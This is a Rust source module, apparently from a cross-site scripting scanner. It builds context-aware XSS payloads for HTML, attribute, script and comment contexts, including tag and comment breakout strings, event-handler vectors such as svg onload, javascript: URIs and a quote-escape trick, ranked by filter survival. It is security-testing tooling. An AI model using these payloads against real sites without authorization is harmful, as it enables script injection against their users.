use super::{Context, Occurrence, OccurrenceMap, PayloadGenerator, VectorMap};

pub(crate) const SCRIPT_BREAK: &str = "</scRipT/>";
pub(crate) const COMMENT_BREAK: &str = "-->";

/// Minimum filter score for a probe character to count as unfiltered.
const SURVIVES: u8 = 95;

/// Builds context-aware vectors from a handful of tags, handlers and calls.
#[derive(Clone, Debug)]
pub struct ContextGenerator {
    pub tags: Vec<&'static str>,
    pub handlers: Vec<&'static str>,
    pub calls: Vec<&'static str>,
}

impl Default for ContextGenerator {
    fn default() -> Self {
        Self {
            tags: vec!["d3v", "svg", "details", "img"],
            handlers: vec!["onpointerenter", "onload", "ontoggle", "onerror"],
            calls: vec!["confirm()", "(confirm)()"],
        }
    }
}

fn push(out: &mut VectorMap, score: u8, vector: String) {
    let tier = out.entry(score).or_default();
    if !tier.contains(&vector) {
        tier.push(vector);
    }
}

fn survives(occ: &Occurrence, probe: &str) -> bool {
    occ.score(probe) >= SURVIVES
}

impl ContextGenerator {
    fn elements(&self, closed: bool) -> Vec<String> {
        let mut out = Vec::new();
        for call in &self.calls {
            for (tag, handler) in self.tags.iter().zip(self.handlers.iter()) {
                let extra = match *tag {
                    "details" => " open",
                    "img" => " src=x",
                    _ => "",
                };
                let end = if closed { ">" } else { "//" };
                let filler = if *tag == "d3v" && closed { "v3dm0s" } else { "" };
                out.push(format!("<{tag}{extra} {handler}={call}{end}{filler}"));
            }
        }
        out
    }

    fn html(&self, occ: &Occurrence, out: &mut VectorMap) {
        if !survives(occ, "<") {
            return;
        }
        if survives(occ, ">") {
            for v in self.elements(true) {
                push(out, 10, v);
            }
        } else {
            for v in self.elements(false) {
                push(out, 9, v);
            }
        }
    }

    fn attribute(&self, occ: &Occurrence, name: &str, quote: Option<char>, out: &mut VectorMap) {
        let q = quote.map(String::from).unwrap_or_default();
        let quote_ok = quote.map(|c| survives(occ, &c.to_string())).unwrap_or(true);

        if quote_ok && survives(occ, ">") && survives(occ, "<") {
            for v in self.elements(true) {
                push(out, 9, format!("{q}>{v}"));
            }
        }
        if quote_ok {
            for call in &self.calls {
                push(out, 8, format!("{q} autofocus onfocus={call} x={q}"));
                push(out, 7, format!("{q} onpointerenter={call} x={q}"));
            }
        }
        let lname = name.to_ascii_lowercase();
        if lname.starts_with("on") {
            for call in &self.calls {
                push(out, 9, format!("{call};//"));
            }
        }
        if matches!(lname.as_str(), "href" | "src" | "action" | "formaction" | "data") {
            for call in &self.calls {
                push(out, 8, format!("javascript:{call}"));
            }
        }
        if lname == "srcdoc" && survives(occ, "&lt;") && survives(occ, "&gt;") {
            for call in &self.calls {
                push(out, 9, format!("&lt;svg onload={call}&gt;"));
            }
        }
    }

    fn script(&self, occ: &Occurrence, quote: Option<char>, out: &mut VectorMap) {
        if survives(occ, SCRIPT_BREAK) {
            for v in self.elements(true) {
                push(out, 10, format!("{SCRIPT_BREAK}{v}"));
            }
        }
        match quote {
            Some(q) if survives(occ, &q.to_string()) => {
                for call in &self.calls {
                    push(out, 9, format!("{q}-{call}-{q}"));
                    push(out, 8, format!("{q};{call};//"));
                }
            }
            Some(q) => {
                // quote comes back escaped; break out by escaping the escape
                for call in &self.calls {
                    push(out, 7, format!("\\{q}-{call}//"));
                }
            }
            None => {
                for call in &self.calls {
                    push(out, 9, format!(";{call};//"));
                }
            }
        }
    }

    fn comment(&self, occ: &Occurrence, out: &mut VectorMap) {
        if !survives(occ, COMMENT_BREAK) {
            return;
        }
        let closed = survives(occ, "<") && survives(occ, ">");
        if closed {
            for v in self.elements(true) {
                push(out, 10, format!("{COMMENT_BREAK}{v}"));
            }
        }
    }
}

impl PayloadGenerator for ContextGenerator {
    fn generate(&self, occurrences: &OccurrenceMap, _text: &str) -> VectorMap {
        let mut out = VectorMap::new();
        for occ in occurrences.values() {
            match &occ.context {
                Context::Html { .. } => self.html(occ, &mut out),
                Context::Attribute { name, quote, .. } => {
                    self.attribute(occ, name, *quote, &mut out)
                }
                Context::Script { quote } => self.script(occ, *quote, &mut out),
                Context::Comment => self.comment(occ, &mut out),
            }
        }
        out.retain(|_, v| !v.is_empty());
        out
    }
}
